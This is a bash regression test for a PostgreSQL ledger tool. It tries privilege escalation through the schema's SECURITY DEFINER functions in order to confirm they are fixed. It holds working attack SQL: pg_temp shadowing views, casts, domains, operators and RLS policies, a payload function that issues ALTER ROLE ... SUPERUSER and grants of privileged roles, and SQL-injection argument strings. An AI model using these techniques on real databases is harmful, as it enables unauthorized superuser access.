#!/usr/bin/env bash
# The insider at psql (issue 10): every person logs in to PostgreSQL as their
# own role and may send any SQL, so nobody may gain anything through the
# schema's SECURITY DEFINER functions.  On a ledger made with custos's own
# commands, as alice (custodian), carol (holder), dave (auditor), adm
# (administrator), frank (an alternate whose key was revoked; he keeps his
# login) and a login that is nobody, for every SECURITY DEFINER function of
# schema custos (read from pg_proc, not from a list), each in a session of
# its own with one shadowing variant prepared first:
#   rel-view:R    a temporary view named R, for each relation the functions
#                 name (pg_namespace, pg_roles, person, log_head, ...: read
#                 from their source, plus a fixed few), that calls the
#                 attacker's function on every read
#   rel-rls:R     a temporary table R, a copy, whose row-level security
#                 policy calls it (against an owner that is not a superuser)
#   rel-typed:R   a temporary table R whose name and text columns are of an
#                 attacker's type with an implicit cast that calls it
#   type-domain:T a temporary domain named T (text, bytea, name, regrole and
#                 every type the functions name) whose CHECK calls it
#   type-cast:T   a temporary composite type named T with an assignment cast
#                 from and an implicit cast to the real T that call it
#   type-icast:T  the same with an implicit cast from, assignment cast to
#   functions     pg_temp functions named and typed like every function the
#                 definers call (sha256, format, pg_has_role, me, ...)
#   operators     pg_temp operators like the ones the definers use
#   create        CREATE SCHEMA, CREATE in public and in custos (refused)
#   crafted       no shadow; hostile arguments only
# then every definer function is called (triggers through the statements
# that fire them) with arguments that let it run to its end.  The
# attacker's function, when it runs as another role than the attacker,
# tries ALTER ROLE <attacker> SUPERUSER, CREATEROLE, CREATEDB, BYPASSRLS,
# REPLICATION and GRANT custos_administrator, custos_custodian,
# pg_execute_server_program, custos_owner, custos_login_admin TO <attacker>,
# and says so (a WARNING).  Unexpected, each counted:
#   RAN      the attacker's code ran as another role (whatever it could do)
#   GAINED   after the variant's sessions, a role (the attackers, the other
#            persons, the custos group roles) has an attribute, a membership
#            or a superuser's password it did not have; restored at once
#   CREATED  an attacker owns a schema or an object outside pg_temp
# Also, as adm through the real CLI: a person enrolled with --login naming a
# group role (every holder would become an administrator) or the superuser
# (with --password-fd: the superuser's password), or an existing login custos
# did not create (its password).  And the two attacks of
# issue 10 exactly: a temporary pg_namespace through custos.is_owner() from
# custos.checkpoint_store, and a temporary type bytea with an assignment cast
# through custos.merkle_leaves_hash, as alice, carol and dave.
#
# Until migration 005 (owner roles that are not superusers, search_path
# ending in pg_temp) this test fails: that is the point of it.
. "$(dirname "$0")/ledger_lib.sh"

EVE=attack_eve$$
ACC=123456
unexpected=0 attempts=0
declare -A RAN_BY_VARIANT GAINED_BY_VARIANT SETUP_OK
REPORT=() KNOWN=() CLI=()
note() { REPORT+=("$*"); echo "$*"; }
bad() { unexpected=$((unexpected + 1)); note "UNEXPECTED $*"; }

at_exit() {
	restore_roles >/dev/null 2>&1
	psql -qAtX -d postgres -c "DROP OWNED BY $EVE; DROP ROLE IF EXISTS $EVE" >/dev/null 2>&1
	cleanup
}
trap at_exit EXIT

# ---- a small real ledger --------------------------------------------------------------
setup_ledger
psql -qAtX -c "CREATE ROLE $EVE LOGIN" >/dev/null || exit 1
mkkey frank >"$W/frank.vkey" || exit 1
ok asw adm frank person add frank --role alternate --account $ACC --pubkey "$(cat "$W/frank.vkey")" || exit 1
ok as alice receive --from COR --item 'kind=equipment alc=1 class=C serial=A1 title=KG-175D' \
	--item 'kind=key alc=1 class=S crypto=yes serial=K1 edition=A title=AKAT 1' || exit 1
ok as frank receive --from COR --item 'kind=equipment alc=1 class=C serial=F1 title=KG-175D' || exit 1
ok asw adm alice key revoke frank --role alternate --account $ACC || exit 1
LOGVK=$(printf '%s\n' "$PASS" | "$MKKEY" custos.test/ledger "$W/log.key") || exit 1
ok asq adm log key set "$LOGVK" || exit 1
ok env PGUSER=alice "$C" log checkpoint --log-key "$W/log.key" --log-passphrase-fd 5 5<<<"$PASS" || exit 1
SZ=$(q "SELECT max(size) FROM custos.checkpoint")
[ -n "$SZ" ] || { echo "FAIL: no checkpoint"; exit 1; }
# A syntactically valid cosignature line (custos.cosignature_add checks the form only).
COSIG="— attack-witness $(head -c 76 /dev/zero | tr '\0' '\253' | base64 -w0)"

ATTACKERS=(alice carol dave adm frank "$EVE")
TRACKED="alice carol dave adm frank $EVE bob wendy erin custos_administrator custos_custodian custos_holder custos_auditor custos_owner custos_login_admin"
TRACKED_ARR="{$(echo $TRACKED | tr ' ' ',')}"

# What every tracked role is and may do: attributes, direct memberships, the
# custos_/pg_/superuser roles it is a member of through any path, the
# password of a superuser or custos role, and how many persistent objects
# (schemas, relations, functions, types outside pg_temp) it owns.
snapshot() {
	psql -qAtX -d "$PGDATABASE" <<-SQL
	SELECT r.rolname || '|' || r.rolsuper::text || r.rolcreaterole || r.rolcreatedb || r.rolbypassrls
	       || r.rolreplication || r.rolcanlogin || '|'
	       || coalesce((SELECT string_agg(g.rolname, ',' ORDER BY g.rolname) FROM pg_auth_members m
			    JOIN pg_roles g ON g.oid = m.roleid WHERE m.member = r.oid), '') || '|'
	       || coalesce((SELECT string_agg(g.rolname, ',' ORDER BY g.rolname) FROM pg_roles g
			    WHERE g.oid <> r.oid AND g.rolname <> 'pg_database_owner'
			      AND (g.rolname LIKE 'custos\_%' OR g.rolname LIKE 'pg\_%' OR g.rolsuper)
			      AND pg_has_role(r.oid, g.oid, 'MEMBER')), '') || '|'
	       || CASE WHEN r.rolname LIKE 'custos\_%' THEN coalesce(md5(a.rolpassword), '-') ELSE '' END || '|'
	       || ((SELECT count(*) FROM pg_namespace n WHERE n.nspowner = r.oid AND n.nspname !~ '^pg_(toast_)?temp_')
		 + (SELECT count(*) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
		     WHERE c.relowner = r.oid AND n.nspname !~ '^pg_(toast_)?temp_')
		 + (SELECT count(*) FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
		     WHERE p.proowner = r.oid AND n.nspname !~ '^pg_(toast_)?temp_')
		 + (SELECT count(*) FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
		     WHERE t.typowner = r.oid AND n.nspname !~ '^pg_(toast_)?temp_'))
	  FROM pg_roles r JOIN pg_authid a ON a.oid = r.oid
	 WHERE r.rolname = ANY ('$TRACKED_ARR'::text[])
	UNION ALL
	SELECT 'superuser ' || r.rolname || '|password ' || coalesce(md5(a.rolpassword), '-')
	  FROM pg_roles r JOIN pg_authid a ON a.oid = r.oid WHERE r.rolsuper AND NOT r.rolname = ANY ('$TRACKED_ARR'::text[])
	ORDER BY 1
	SQL
}
BASE=$(snapshot)
[ -n "$BASE" ] || { echo "FAIL: no snapshot"; exit 1; }

# Put every tracked role back as BASE has it: attributes, memberships, passwords.
restore_roles() {
	local line name attrs direct rest now_direct g sql=""
	while IFS= read -r line; do
		case $line in
		'superuser '*)
			name=${line#superuser }; name=${name%%|*}
			[ "${line##*|password }" = - ] && sql+="ALTER ROLE \"$name\" PASSWORD NULL;"
			continue ;;
		esac
		IFS='|' read -r name attrs direct _ _ _ <<<"$line"
		local a=(SUPERUSER CREATEROLE CREATEDB BYPASSRLS REPLICATION LOGIN) i=0 spec="" s=$attrs
		for i in 0 1 2 3 4 5; do
			if [ "${s:0:1}" = t ]; then spec+=" ${a[$i]}"; s=${s:4}; else spec+=" NO${a[$i]}"; s=${s:5}; fi
		done
		sql+="ALTER ROLE \"$name\"$spec;"
		now_direct=$(psql -qAtX -d postgres -c "SELECT g.rolname FROM pg_auth_members m JOIN pg_roles g ON g.oid = m.roleid JOIN pg_roles r ON r.oid = m.member WHERE r.rolname = '$name'")
		for g in $now_direct; do
			case ",$direct," in *",$g,"*) ;; *) sql+="REVOKE \"$g\" FROM \"$name\";" ;; esac
		done
	done <<<"$BASE"
	psql -qAtX -d postgres -c "$sql" >/dev/null
}

# What changed between two snapshot lines of one role, in words.
describe_change() {
	local was=$1 now=$2 a=(SUPERUSER CREATEROLE CREATEDB BYPASSRLS REPLICATION LOGIN) i out="" w n
	local wa nwa wd nd wt nt wp np
	IFS='|' read -r _ wa wd wt wp _ <<<"$was"
	IFS='|' read -r _ nwa nd nt np _ <<<"$now"
	for i in 0 1 2 3 4 5; do
		w=${wa:0:1} n=${nwa:0:1}
		[ "$w" = t ] && wa=${wa:4} || wa=${wa:5}
		[ "$n" = t ] && nwa=${nwa:4} || nwa=${nwa:5}
		[ "$w" != "$n" ] && { [ "$n" = t ] && out+=" ${a[$i]}" || out+=" NO${a[$i]}"; }
	done
	# a superuser is a member of every role: name the direct grants only
	local g new="" have=$wt now_m=$nt
	case $out in *' SUPERUSER'*|SUPERUSER*) have=$wd now_m=$nd ;; esac
	for g in ${now_m//,/ }; do case ",$have," in *",$g,"*) ;; *) new+=" $g" ;; esac; done
	[ -n "$new" ] && out+="; now a member of$new"
	[ "$wp" != "$np" ] && out+="; its password changed"
	[ "${was##*|}" != "${now##*|}" ] && out+="; owns ${now##*|} objects outside pg_temp (had ${was##*|})"
	out=${out# }
	printf '%s' "${out#; }"
}

# After a variant: anything that differs from BASE is a gain; restore it.
check_gains() {
	local variant=$1 now diff line was name
	now=$(snapshot)
	[ "$now" = "$BASE" ] && return 0
	diff=$(diff <(printf '%s\n' "$BASE") <(printf '%s\n' "$now") | sed -n 's/^> //p')
	while IFS= read -r line; do
		[ -z "$line" ] && continue
		name=${line%%|*}
		was=$(printf '%s\n' "$BASE" | awk -F'|' -v n="$name" '$1 == n' | head -1)
		case $name in
		'superuser '*) bad "GAINED [$variant] ${name#superuser }: its password was set" ;;
		*) bad "GAINED [$variant] $name: $(describe_change "$was" "$line")" ;;
		esac
		GAINED_BY_VARIANT[$variant]=$(( ${GAINED_BY_VARIANT[$variant]:-0} + 1 ))
	done <<<"$diff"
	restore_roles
	[ "$(snapshot)" = "$BASE" ] || { echo "FAIL: could not restore the roles after $variant"; diff <(printf '%s\n' "$BASE") <(snapshot); exit 1; }
}

# ---- what the definer functions use, from the catalog -------------------------------------
cat_q() { psql -qAtX -d "$PGDATABASE" -c "$1"; }
DEFINERS=$(cat_q "SELECT p.proname || '|' || oidvectortypes(p.proargtypes) || '|' || (p.prorettype = 'trigger'::regtype)
	FROM pg_proc p WHERE p.pronamespace = 'custos'::regnamespace AND p.prosecdef ORDER BY 1")
NDEF=$(printf '%s\n' "$DEFINERS" | grep -c .)
[ "$NDEF" -gt 0 ] || { echo "FAIL: no SECURITY DEFINER function found"; exit 1; }
RELS=$(cat_q "SELECT DISTINCT n.nspname || '.' || c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
	WHERE n.nspname IN ('pg_catalog', 'custos') AND c.relkind IN ('r', 'v', 'p')
	  AND (c.relname IN ('pg_namespace', 'pg_roles', 'pg_class', 'pg_authid', 'pg_auth_members', 'pg_proc',
			     'pg_type', 'person', 'person_role', 'log_head')
	       OR EXISTS (SELECT FROM pg_proc p WHERE p.pronamespace = 'custos'::regnamespace AND p.prosecdef
			  AND p.prosrc ~ ('\m' || c.relname || '\M')))
	ORDER BY 1")
TYPES=$(cat_q "SELECT DISTINCT t.typname FROM pg_type t WHERE t.typnamespace = 'pg_catalog'::regnamespace
	AND t.typtype = 'b' AND t.typcategory <> 'A'
	AND (t.typname IN ('text', 'bytea', 'name', 'regrole', 'int8', 'bool', 'timestamptz')
	     OR EXISTS (SELECT FROM pg_proc p WHERE p.pronamespace = 'custos'::regnamespace AND p.prosecdef
			AND (p.prosrc ~ ('\m' || t.typname || '\M') OR t.oid = ANY (p.proargtypes) OR t.oid = p.prorettype)))
	ORDER BY 1")
# pg_temp functions like those the definers call (same name and argument types).
FUNC_SHADOWS=$(cat_q "SELECT format('CREATE FUNCTION pg_temp.%I(%s) RETURNS %s LANGUAGE plpgsql AS \$b\$BEGIN PERFORM pg_temp.evil(); RETURN NULL; END\$b\$;',
		f.proname, (SELECT string_agg(format_type(a, NULL), ', ' ORDER BY o) FROM unnest(f.proargtypes) WITH ORDINALITY x(a, o)),
		format_type(f.prorettype, NULL))
	FROM pg_proc f JOIN pg_namespace n ON n.oid = f.pronamespace
	WHERE n.nspname IN ('pg_catalog', 'custos') AND f.prokind = 'f' AND f.pronargs BETWEEN 0 AND 4 AND NOT f.proretset
	  AND NOT EXISTS (SELECT FROM unnest(f.proargtypes) a JOIN pg_type t ON t.oid = a WHERE t.typtype = 'p')
	  AND (SELECT typtype FROM pg_type WHERE oid = f.prorettype) <> 'p'
	  AND EXISTS (SELECT FROM pg_proc p WHERE p.pronamespace = 'custos'::regnamespace AND p.prosecdef
		      AND p.prosrc ~ ('\m' || f.proname || '\s*\('))")
# pg_temp operators like the ones the definers use, on the types they use.
OP_SHADOWS=$(cat_q "SELECT format('CREATE FUNCTION pg_temp.op%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS \$b\$BEGIN PERFORM pg_temp.evil(); RETURN NULL; END\$b\$; CREATE OPERATOR pg_temp.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = pg_temp.op%s);',
		o.oid, format_type(o.oprleft, NULL), format_type(o.oprright, NULL), format_type(o.oprresult, NULL),
		o.oprname, format_type(o.oprleft, NULL), format_type(o.oprright, NULL), o.oid)
	FROM pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprleft <> 0
	  AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '||', '+', '-', '*', '/', '%', '&', '<<', '~', '!~')
	  AND o.oprleft IN ('text'::regtype, 'bytea'::regtype, 'int8'::regtype, 'int4'::regtype, 'name'::regtype,
			    'bool'::regtype, 'xid8'::regtype, 'timestamptz'::regtype, 'oid'::regtype)
	  AND o.oprright = o.oprleft")

# ---- the calls: arguments that let each function run to its end -------------------------------
# FUNCTION | SQL, as the attacker ({SZ}: a stored checkpoint's size; {COSIG}:
# a well-formed cosignature line).  Types are written pg_catalog.* because a
# shadowed type would otherwise capture the attacker's own literals.
# Functions not listed here are called with NULL arguments; trigger
# functions not listed are named in the report as not reached.
CALLS=$(cat <<'EOF'
me                      | SELECT custos.me()
my_accounts             | SELECT custos.my_accounts()
my_custody_accounts     | SELECT custos.my_custody_accounts()
sees_all                | SELECT custos.sees_all()
is_administrator        | SELECT custos.is_administrator()
is_owner                | SELECT custos.is_owner()
account_exists          | SELECT custos.account_exists('123456'::pg_catalog.text)
account_exists          | SELECT custos.account_exists($x$'; ALTER ROLE alice SUPERUSER; --$x$::pg_catalog.text)
lock_head               | SELECT * FROM custos.lock_head()
log_append_guard        | INSERT INTO custos.log_entry (idx, leaf, note, time, action, actor, idem) SELECT h.size, pg_catalog.decode(pg_catalog.repeat('00', 31), 'hex'), pg_catalog.decode('78', 'hex'), pg_catalog.clock_timestamp(), 'receipt'::pg_catalog.text, pg_catalog.coalesce(custos.me(), 'adm'::pg_catalog.text), 'attack'::pg_catalog.text FROM custos.log_head h
state_guard             | UPDATE custos.item SET qty = qty WHERE serial = 'A1'::pg_catalog.text
merkle_leaves_hash      | SELECT custos.merkle_leaves_hash(0::pg_catalog.int8, 1::pg_catalog.int4)
merkle_tree_hash        | SELECT custos.merkle_tree_hash(0::pg_catalog.int8, {SZ}::pg_catalog.int8)
merkle_fill             | SELECT custos.merkle_fill({SZ}::pg_catalog.int8)
checkpoint_root_checked | SELECT custos.checkpoint_root_checked({SZ}::pg_catalog.int8)
checkpoint_root         | SELECT custos.checkpoint_root({SZ}::pg_catalog.int8)
checkpoint_store        | SELECT custos.checkpoint_store(pg_catalog.decode('78', 'hex'), {SZ}::pg_catalog.int8)
cosignature_add         | SELECT custos.cosignature_add({SZ}::pg_catalog.int8, pg_catalog.convert_to('{COSIG}'::pg_catalog.text, 'UTF8'))
checkpoint_due          | SELECT * FROM custos.checkpoint_due()
log_key_set             | SELECT custos.log_key_set('custos.test/ledger+00000000+AAAA'::pg_catalog.text)
sync_login              | SELECT custos.sync_login('wendy'::pg_catalog.text)
sync_login              | SELECT custos.sync_login($x$wendy"; ALTER ROLE alice SUPERUSER; --$x$::pg_catalog.text)
set_login_password      | SELECT custos.set_login_password('wendy'::pg_catalog.text, $x$SCRAM-SHA-256$4096:x' SUPERUSER; --$x$::pg_catalog.text)
EOF
)

# The SQL that calls every definer function once or more (each statement its
# own transaction, so a success commits what the attacker's code did).
CALL_SQL=""
NCALLS=0
UNREACHED=()
while IFS='|' read -r fname fargs ftrig; do
	lines=$(printf '%s\n' "$CALLS" | awk -F'|' -v f="$fname" '{ n = $1; gsub(/ /, "", n); if (n == f) { sub(/^[^|]*\| /, ""); print } }')
	if [ -z "$lines" ]; then
		if [ "$ftrig" = t ]; then UNREACHED+=("$fname"); continue; fi
		nulls=$(printf '%s' "$fargs" | awk -F', ' '{ for (i = 1; i <= NF; i++) printf "%sNULL", (i > 1 ? ", " : "") }')
		lines="SELECT custos.$fname($nulls)"
	fi
	k=0
	while IFS= read -r l; do
		k=$((k + 1)); NCALLS=$((NCALLS + 1))
		l=${l//\{SZ\}/$SZ}; l=${l//\{COSIG\}/$COSIG}
		CALL_SQL+="SET attack.fn = '$fname#$k';"$'\n'"$l;"$'\n'
	done <<<"$lines"
done <<<"$DEFINERS"

# The attacker's function: when it runs as someone else, it tries to make
# the session's login powerful and says what it did.
EVIL=$(cat <<'EOF'
\set VERBOSITY terse
SET client_min_messages = warning;
SET statement_timeout = '10s';
CREATE FUNCTION pg_temp.evil() RETURNS pg_catalog.bool LANGUAGE plpgsql AS $evil$
DECLARE s pg_catalog.text; did pg_catalog.text := '';
BEGIN
	IF current_user = session_user THEN RETURN true; END IF;
	FOREACH s IN ARRAY ARRAY['ALTER ROLE %I SUPERUSER', 'ALTER ROLE %I CREATEROLE', 'ALTER ROLE %I CREATEDB',
		'ALTER ROLE %I BYPASSRLS', 'ALTER ROLE %I REPLICATION', 'GRANT custos_administrator TO %I',
		'GRANT custos_custodian TO %I', 'GRANT pg_execute_server_program TO %I',
		'GRANT custos_owner TO %I', 'GRANT custos_login_admin TO %I']::pg_catalog.text[] LOOP
		BEGIN
			EXECUTE pg_catalog.format(s, session_user);
			did := pg_catalog.concat(did, ' [', pg_catalog.format(s, session_user), ']');
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
	END LOOP;
	RAISE WARNING 'ATTACK-RAN as % via %:%', current_user, pg_catalog.current_setting('attack.fn', true), did;
	RETURN true;
END $evil$;
EOF
)

# The setup SQL of one variant.
variant_sql() {
	local v=$1 arg=${1#*:} rel sch
	case $v in
	rel-view:*)
		printf 'CREATE TEMP VIEW %s AS SELECT * FROM %s WHERE pg_temp.evil();\n' "${arg#*.}" "$arg" ;;
	rel-rls:*)
		printf 'CREATE TEMP TABLE %s AS SELECT * FROM %s;\nALTER TABLE pg_temp.%s ENABLE ROW LEVEL SECURITY;\nALTER TABLE pg_temp.%s FORCE ROW LEVEL SECURITY;\nCREATE POLICY p ON pg_temp.%s USING (pg_temp.evil());\n' \
			"${arg#*.}" "$arg" "${arg#*.}" "${arg#*.}" "${arg#*.}" ;;
	rel-typed:*)
		# name and text columns become composites with an implicit cast back.
		local t
		for t in name text; do
			printf 'CREATE TYPE pg_temp.w_%s AS (v pg_catalog.%s);\n' $t $t
			printf 'CREATE FUNCTION pg_temp.w_%s_out(x pg_temp.w_%s) RETURNS pg_catalog.%s LANGUAGE plpgsql AS $b$BEGIN PERFORM pg_temp.evil(); RETURN x.v; END$b$;\n' $t $t $t
			printf 'CREATE CAST (pg_temp.w_%s AS pg_catalog.%s) WITH FUNCTION pg_temp.w_%s_out(pg_temp.w_%s) AS IMPLICIT;\n' $t $t $t $t
		done
		cat_q "SELECT format('CREATE TEMP TABLE %I AS SELECT %s FROM %s;', c.relname,
			string_agg(CASE WHEN a.atttypid = 'name'::regtype THEN format('ROW(%I)::pg_temp.w_name AS %I', a.attname, a.attname)
					WHEN a.atttypid = 'text'::regtype THEN format('ROW(%I)::pg_temp.w_text AS %I', a.attname, a.attname)
					ELSE quote_ident(a.attname) END, ', ' ORDER BY a.attnum), '$arg')
			FROM pg_attribute a JOIN pg_class c ON c.oid = a.attrelid
			WHERE a.attrelid = '$arg'::regclass AND a.attnum > 0 AND NOT a.attisdropped GROUP BY c.relname" ;;
	type-domain:*)
		printf 'CREATE DOMAIN pg_temp.%s AS pg_catalog.%s CHECK (pg_temp.evil());\n' "$arg" "$arg" ;;
	type-cast:* | type-icast:*)
		local to=ASSIGNMENT from=IMPLICIT
		[ "${v%%:*}" = type-icast ] && to=IMPLICIT from=ASSIGNMENT
		printf 'CREATE TYPE pg_temp.%s AS (v pg_catalog.%s);\n' "$arg" "$arg"
		printf 'CREATE FUNCTION pg_temp.to_%s(x pg_catalog.%s) RETURNS pg_temp.%s LANGUAGE plpgsql AS $b$BEGIN PERFORM pg_temp.evil(); RETURN ROW(x)::pg_temp.%s; END$b$;\n' "$arg" "$arg" "$arg" "$arg"
		printf 'CREATE FUNCTION pg_temp.from_%s(x pg_temp.%s) RETURNS pg_catalog.%s LANGUAGE plpgsql AS $b$BEGIN PERFORM pg_temp.evil(); RETURN x.v; END$b$;\n' "$arg" "$arg" "$arg"
		printf 'CREATE CAST (pg_catalog.%s AS pg_temp.%s) WITH FUNCTION pg_temp.to_%s(pg_catalog.%s) AS %s;\n' "$arg" "$arg" "$arg" "$arg" $to
		printf 'CREATE CAST (pg_temp.%s AS pg_catalog.%s) WITH FUNCTION pg_temp.from_%s(pg_temp.%s) AS %s;\n' "$arg" "$arg" "$arg" "$arg" $from ;;
	functions)
		printf '%s\n' "$FUNC_SHADOWS" ;;
	operators)
		printf '%s\n' "$OP_SHADOWS" ;;
	create)
		printf 'CREATE SCHEMA attack_schema;\nCREATE TABLE public.pg_namespace (nspname name, nspowner oid);\n'
		printf 'CREATE FUNCTION public.sha256(bytea) RETURNS bytea LANGUAGE sql AS $b$SELECT $1$b$;\n'
		printf 'CREATE TABLE custos.attack_t (x int);\nCREATE FUNCTION custos.attack_f() RETURNS int LANGUAGE sql AS $b$SELECT 1$b$;\n'
		printf 'CREATE TYPE custos.text AS (v pg_catalog.text);\n' ;;
	crafted) ;;
	esac
}

# run_variant VARIANT: one session per attacker (in parallel), then the gains.
run_variant() {
	local v=$1 a setup pids=() ok=0
	setup=$(variant_sql "$v")
	for a in "${ATTACKERS[@]}"; do
		{
			printf '%s\n' "$EVIL"
			printf '%s\n' "$setup"
			printf '\\warn SETUP-DONE\n'
			printf '%s' "$CALL_SQL"
		} >"$W/s.$a.sql"
		PGUSER=$a psql -X -q -o /dev/null -f "$W/s.$a.sql" 2>"$W/s.$a.err" >/dev/null &
		pids+=($!)
	done
	wait "${pids[@]}"
	for a in "${ATTACKERS[@]}"; do
		attempts=$((attempts + NCALLS))
		# set up without an error (the shadow exists) for this attacker?
		sed '/SETUP-DONE/q' "$W/s.$a.err" | grep -q '^psql:.*ERROR' || ok=$((ok + 1))
		# one unexpected outcome per function through which the code ran
		local ran n
		ran=$(grep -o 'ATTACK-RAN as [^ ]* via [^:]*' "$W/s.$a.err" | sort -u)
		if [ -n "$ran" ]; then
			n=$(printf '%s\n' "$ran" | wc -l)
			unexpected=$((unexpected + n))
			RAN_BY_VARIANT[$v]=$(( ${RAN_BY_VARIANT[$v]:-0} + n ))
			note "UNEXPECTED RAN [$v] as $a: the attacker's code ran as" \
				"$(printf '%s\n' "$ran" | sed 's/ATTACK-RAN as //; s/ via /(/; s/$/)/' | paste -sd' ')"
		fi
	done
	SETUP_OK[$v]=$ok
	check_gains "$v"
}

VARIANTS=(crafted create functions operators)
for r in $RELS; do VARIANTS+=("rel-view:$r" "rel-rls:$r" "rel-typed:$r"); done
for t in $TYPES; do VARIANTS+=("type-domain:$t" "type-cast:$t" "type-icast:$t"); done

start=$EPOCHREALTIME
echo "== $NDEF SECURITY DEFINER functions, $NCALLS calls; ${#VARIANTS[@]} variants x ${#ATTACKERS[@]} attackers"
[ ${#UNREACHED[@]} -eq 0 ] || note "note: trigger functions without a statement that fires them here: ${UNREACHED[*]}"

# ---- the two attacks of issue 10, exactly ------------------------------------------------
known() { # NAME ATTACKER SQL
	local name=$1 a=$2 sql=$3 su
	printf '%s\n%s\n' "$EVIL" "$sql" | PGUSER=$a psql -X -q -o /dev/null 2>"$W/k.err" >/dev/null
	su=$(q "SELECT rolsuper FROM pg_roles WHERE rolname = '$a'")
	if [ "$su" = t ]; then
		bad "KNOWN [$name] as $a: ALTER ROLE $a SUPERUSER succeeded"
		KNOWN+=("SUCCEEDED  $name, as $a: ALTER ROLE $a SUPERUSER")
	elif grep -q 'ATTACK-RAN' "$W/k.err"; then
		bad "KNOWN [$name] as $a: the attacker's code ran as another role ($(grep -o 'ATTACK-RAN as [^ ]*' "$W/k.err" | head -1))"
		KNOWN+=("RAN        $name, as $a: code ran as another role")
	else
		note "refused: [$name] as $a"
		KNOWN+=("refused    $name, as $a")
	fi
	attempts=$((attempts + 1))
	check_gains "known:$name"
}
known 'temp pg_namespace via is_owner from checkpoint_store' alice "
CREATE TYPE pg_temp.nsname AS (v pg_catalog.name);
CREATE FUNCTION pg_temp.nsname_out(x pg_temp.nsname) RETURNS pg_catalog.name LANGUAGE plpgsql AS \$b\$BEGIN PERFORM pg_temp.evil(); RETURN x.v; END\$b\$;
CREATE CAST (pg_temp.nsname AS pg_catalog.name) WITH FUNCTION pg_temp.nsname_out(pg_temp.nsname) AS IMPLICIT;
CREATE TEMP TABLE pg_namespace AS SELECT ROW(nspname)::pg_temp.nsname AS nspname, nspowner FROM pg_catalog.pg_namespace;
SET attack.fn = 'checkpoint_store';
SELECT custos.checkpoint_store(pg_catalog.decode('78', 'hex'), $SZ);"
for a in alice carol dave; do
	known 'temp type bytea with an assignment cast via merkle_leaves_hash' $a "
CREATE TYPE pg_temp.bytea AS (v pg_catalog.bytea);
CREATE FUNCTION pg_temp.to_bytea(x pg_catalog.bytea) RETURNS pg_temp.bytea LANGUAGE plpgsql AS \$b\$BEGIN PERFORM pg_temp.evil(); RETURN ROW(x)::pg_temp.bytea; END\$b\$;
CREATE FUNCTION pg_temp.from_bytea(x pg_temp.bytea) RETURNS pg_catalog.bytea LANGUAGE plpgsql AS \$b\$BEGIN PERFORM pg_temp.evil(); RETURN x.v; END\$b\$;
CREATE CAST (pg_catalog.bytea AS pg_temp.bytea) WITH FUNCTION pg_temp.to_bytea(pg_catalog.bytea) AS ASSIGNMENT;
CREATE CAST (pg_temp.bytea AS pg_catalog.bytea) WITH FUNCTION pg_temp.from_bytea(pg_temp.bytea) AS IMPLICIT;
SET attack.fn = 'merkle_leaves_hash';
SELECT custos.merkle_leaves_hash(0, 1);"
done

# ---- every variant ---------------------------------------------------------------------------
for v in "${VARIANTS[@]}"; do run_variant "$v"; done

# ---- crafted logins, through the real CLI, by the administrator -------------------------------
# A person whose login is a group role: sync_login would grant the person's
# group to it, so every member of custos_holder (carol) would become an
# administrator.  A person whose login is the superuser, with a password:
# set_login_password would set the superuser's password.
for who in zed zee; do mkkey $who >"$W/$who.vkey" || exit 1; done
asw adm zed person add zed --role administrator --login custos_holder --pubkey "$(cat "$W/zed.vkey")" >/dev/null 2>&1
[ "$(q "SELECT pg_has_role('carol', 'custos_administrator', 'MEMBER')")" = t ] &&
	CLI+=("SUCCEEDED  person add zed --login custos_holder --role administrator: carol and wendy (custos_holder) became administrators") ||
	CLI+=("refused    person add zed --login custos_holder --role administrator")
check_gains "cli:login-group-role"
asw adm zee person add zee --role holder --account $ACC --login postgres --pubkey "$(cat "$W/zee.vkey")" \
	--password-fd 5 5<<<'attacker-chosen-password' >/dev/null 2>&1
[ -n "$(q "SELECT rolpassword FROM pg_authid WHERE rolname = 'postgres'")" ] &&
	CLI+=("SUCCEEDED  person add zee --login postgres --password-fd: adm set the superuser's password") ||
	CLI+=("refused    person add zee --login postgres --password-fd")
check_gains "cli:login-superuser"
# A person whose login is an existing login that custos did not make (here
# the nobody login): set_login_password would take it over.
mkkey zoe >"$W/zoe.vkey" || exit 1
asw adm zoe person add zoe --role holder --account $ACC --login "$EVE" --pubkey "$(cat "$W/zoe.vkey")" \
	--password-fd 5 5<<<'attacker-chosen-password' >/dev/null 2>&1
if [ -n "$(q "SELECT rolpassword FROM pg_authid WHERE rolname = '$EVE'")" ]; then
	bad "GAINED [cli:login-existing] adm set the password of $EVE, a login custos did not create"
	CLI+=("SUCCEEDED  person add zoe --login $EVE --password-fd: adm set the password of an existing login")
else
	CLI+=("refused    person add zoe --login $EVE --password-fd")
fi
check_gains "cli:login-existing"
attempts=$((attempts + 3))

# ---- the report --------------------------------------------------------------------------------
secs=$(awk -v a="$start" -v b="$EPOCHREALTIME" 'BEGIN { printf "%.1f", b - a }')
echo
echo "== by variant (attackers set up without error / RAN / GAINED), unexpected ones only:"
nosetup=()
for v in "${VARIANTS[@]}"; do
	r=${RAN_BY_VARIANT[$v]:-0} g=${GAINED_BY_VARIANT[$v]:-0}
	[ "${SETUP_OK[$v]}" = 0 ] && nosetup+=("$v")
	[ $r -ne 0 ] || [ $g -ne 0 ] && printf '  %-36s %s/%s  %3d  %3d\n' "$v" "${SETUP_OK[$v]}" ${#ATTACKERS[@]} $r $g
done
nall=0
for v in "${VARIANTS[@]}"; do [ "${SETUP_OK[$v]}" = ${#ATTACKERS[@]} ] && nall=$((nall + 1)); done
echo "variants every attacker could set up: $nall of ${#VARIANTS[@]}"
[ ${#nosetup[@]} -eq 0 ] || echo "variants no attacker could set up (refused, as they should be): ${nosetup[*]}"
echo "== the two attacks of issue 10:"
printf '  %s\n' "${KNOWN[@]}"
echo "== crafted logins through the CLI, as adm:"
printf '  %s\n' "${CLI[@]}"
echo "t_db_attack: $attempts attempts (${#VARIANTS[@]} variants x ${#ATTACKERS[@]} attackers x $NCALLS calls, known attacks, CLI) in ${secs}s: $unexpected unexpected outcome(s)"
[ $unexpected -eq 0 ] || fails=$((fails + 1))
finish
